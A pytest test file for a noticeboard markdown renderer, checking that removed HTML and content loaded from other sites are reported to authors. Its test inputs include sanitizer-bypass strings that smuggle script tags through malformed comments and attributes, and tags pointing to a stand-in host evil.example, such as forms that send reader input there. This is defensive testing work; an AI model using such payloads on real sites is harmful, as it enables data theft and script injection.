"""Nothing that an officer typed in plans/ is lost in silence: it is shown, or it is told."""

import pytest

from boards import plan, told
from noticeboard.markup.render import Renderer


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("甲<!-- x --!><script>藏</script>-->乙", ["8:13 warning html-removed"]),
        ("甲<!--><script>藏</script>-->乙", ["8:7 warning html-removed"]),
        ("<!-- x --!><script>藏</script>-->", ["8:12 warning html-removed"]),
        ('文<img """><script>藏</script>">字', ["8:11 warning html-removed"]),
        ("文<b ''><script>藏</script>'>字", ["8:8 warning html-removed"]),
        ("![图一][q]\n\n[q]: <data:image/svg+xml,%3Csvg%3E>", ["8:1 warning picture-outside"]),
        ("![图一](data&colon;image/svg+xml,x)", ["8:1 warning picture-outside"]),
        ("- ```\n  <script>看</script>\n  ```", []),
        ("甲 ` 乙\n\n<script>藏</script>\n\n丙 ` 丁", ["10:1 warning html-removed"]),
        ("甲 ` 乙\n\n丙<iframe>` 丁", ["10:2 warning html-removed"]),
        ("（一）```\n<script>藏</script>\n```", ["9:1 warning html-removed"]),
        ("`<script>看</script>`", []),
    ],
)
def test_what_goes_is_told(board, body, expected):
    found = [line.removeprefix("plans/a.md:") for line in told(board({"plans/a.md": plan(body)}))]
    assert found == expected


@pytest.mark.parametrize(
    ("body", "does"),
    [
        ("<form action='http://evil.example/'>甲</form>", "把读者填的送到"),
        ("<button formaction=//evil.example>甲</button>", "把读者填的送到"),
        ("<script src=//evil.example/a.js></script>", "运行别的网站的脚本"),
        ("<iframe src=//evil.example></iframe>", "嵌入别的网站的网页"),
        ("<object data=//evil.example/a></object>", "嵌入别的网站的网页"),
        ("<link href=//evil.example/a.css>", "使用别的网站的样式"),
        ("<style>@import '//evil.example/a.css'</style>", "使用别的网站的样式"),
        ("<video src=//evil.example/a.mp4></video>", "播放别的网站的录像"),
        ("<a href=#x ping=//evil.example>甲</a>", "把读者点了什么告诉"),
        ("<table background=//evil.example/a.png><tr><td>甲</table>", "显示别的网站的图片"),
    ],
)
def test_each_thing_from_elsewhere_is_told_in_its_own_words(board, body, does):
    site = board({"plans/a.md": plan(body)})
    (problem,) = [problem for problem in site.problems if problem.code == "picture-outside"]
    assert does in problem.message
    assert ("图片" in problem.message + problem.hint) == ("图片" in does)


@pytest.mark.parametrize(
    "body",
    [
        "- ```\n  <script>要看的一行</script>\n  ```",
        "1. ~~~ html\n   <script>要看的一行</script>\n   ~~~\n2. 二",
        "- [ ] 一\n  - ```\n    <script>要看的一行</script>\n    ```",
    ],
)
def test_code_that_begins_on_the_line_of_an_item_is_shown(body):
    assert "&lt;script&gt;要看的一行&lt;/script&gt;" in Renderer().render(body).html
